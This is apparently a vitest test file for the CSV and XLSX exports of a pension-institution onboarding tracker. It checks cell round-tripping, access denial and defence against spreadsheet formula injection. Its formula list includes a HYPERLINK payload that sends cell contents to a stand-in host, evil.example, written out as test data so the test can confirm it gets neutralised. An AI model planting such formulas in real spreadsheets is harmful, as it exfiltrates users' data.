import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { seedInstitution } from "../../../prisma/seed/factories";
import { getCatalogue } from "../../onboarding";
import { ZOverviewFilterSchema } from "../../validation/checklist";
import { openFreshDatabase, testDatabaseKinds, type TestDatabase } from "../testing/test-databases";
import { overviewTable, stepDetailTable } from "./tables";
import { toCsv, toXlsx } from "./write-table";

const kinds = await testDatabaseKinds();
const coordinator = { id: "c", email: "c@test.example", role: "COORDINATOR" as const, memberships: [] };

describe.each(kinds)("exports on %s", (kind) => {
  let t: TestDatabase;
  let ids: string[];
  beforeAll(async () => {
    t = await openFreshDatabase(kind);
    const a = await seedInstitution(t.prisma, { name: "Alfa; \"sitat\" Pensjon" });
    const b = await seedInstitution(t.prisma, { name: "Beta Pensjon", supplierOrgnr: "999999999", supplierName: "Lev AS" });
    ids = [a.id, b.id];
    await t.prisma.institutionStep.create({ data: { institutionId: a.id, stepKey: "A-1", status: "DONE" } });
  });
  afterAll(async () => t?.close());

  it("writes the overview as CSV that parses back to the same cells", async () => {
    const table = await overviewTable({ db: t.prisma, actor: coordinator, today: "2026-11-26", filters: ZOverviewFilterSchema.parse({}) });
    expect(table.rows).toHaveLength(2);
    const csv = toCsv(table);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const parsed = parse(csv.slice(1), { delimiter: ";" }) as string[][];
    expect(parsed[0]).toEqual(table.headers);
    const alfa = parsed.find((r) => r[1] === "Alfa; \"sitat\" Pensjon");
    expect(alfa?.[table.headers.indexOf("current_phase")]).toBe("A");
    expect(Number(alfa?.[table.headers.indexOf("overall_percent")])).toBeGreaterThan(0);
    // yes/no as words: "false" must not read as an empty cell
    const supplier = table.headers.indexOf("third_party_supplier");
    expect(parsed.slice(1).map((r) => [r[1], r[supplier]])).toEqual([["Alfa; \"sitat\" Pensjon", "false"], ["Beta Pensjon", "true"]]);
  });

  it("writes every step of every institution as XLSX that Excel's format reads back", async () => {
    const table = await stepDetailTable({ db: t.prisma, actor: coordinator, today: "2026-11-26" });
    expect(table.rows).toHaveLength(2 * getCatalogue().steps.length);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(table)) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet("steg")!;
    expect(sheet.rowCount).toBe(table.rows.length + 1);
    expect(sheet.getRow(1).getCell(3).value).toBe("step");
    const a1 = table.rows.find((r) => r[2] === "A-1" && r[1] === "Alfa; \"sitat\" Pensjon");
    expect(a1?.[table.headers.indexOf("status")]).toBe("DONE");
    const b7 = table.rows.filter((r) => r[2] === "B-7").map((r) => [r[1], r[table.headers.indexOf("applicable")]]);
    expect(b7).toEqual([["Alfa; \"sitat\" Pensjon", false], ["Beta Pensjon", true]]);
  });

  // Institution names a spreadsheet would run as formulas: every prefix OWASP names.
  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"];

  it("writes cells that would start a formula as text in CSV, and as plain strings in XLSX", async () => {
    const f = await openFreshDatabase(kind);
    try {
      for (const name of FORMULAS) await seedInstitution(f.prisma, { name });
      const overview = await overviewTable({ db: f.prisma, actor: coordinator, today: "2026-11-26", filters: ZOverviewFilterSchema.parse({}) });
      const parsed = parse(toCsv(overview).slice(1), { delimiter: ";" }) as string[][];
      const names = parsed.slice(1).map((r) => r[1]);
      expect(names.sort()).toEqual(FORMULAS.map((n) => `'${n}`).sort());
      // numbers (a negative number too) stay numbers
      expect(parsed.slice(1).every((r) => /^\d+$/.test(r[overview.headers.indexOf("overall_percent")]))).toBe(true);

      const steps = await stepDetailTable({ db: f.prisma, actor: coordinator, today: "2026-11-26" });
      const stepCsv = parse(toCsv(steps).slice(1), { delimiter: ";" }) as string[][];
      expect(new Set(stepCsv.slice(1).map((r) => r[1]))).toEqual(new Set(FORMULAS.map((n) => `'${n}`)));

      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await toXlsx(overview)) as unknown as ArrayBuffer);
      const sheet = workbook.getWorksheet("oversikt")!;
      const cells = FORMULAS.map((_, i) => sheet.getRow(i + 2).getCell(2));
      expect(cells.map((c) => c.type)).toEqual(FORMULAS.map(() => ExcelJS.ValueType.String));
      // the text as it was (XML reads a carriage return back as a line feed)
      expect(cells.map((c) => c.value).sort()).toEqual(FORMULAS.map((n) => n.replace(/\r/g, "\n")).sort());
    } finally {
      await f.close();
    }
  });

  it("refuses institution users (not found) and logs the attempt", async () => {
    const member = { id: "m", email: "m@test.example", role: "INSTITUTION_USER" as const, memberships: [{ institutionId: ids[0], memberRole: "OWNER" as const }] };
    await expect(stepDetailTable({ db: t.prisma, actor: member, today: "2026-11-26" })).rejects.toThrow("NOT_FOUND");
    await expect(overviewTable({ db: t.prisma, actor: member, today: "2026-11-26", filters: ZOverviewFilterSchema.parse({}) })).rejects.toThrow("NOT_FOUND");
    expect(await t.prisma.auditEvent.count({ where: { actor: member.email, action: "access.denied" } })).toBe(2);
  });
});
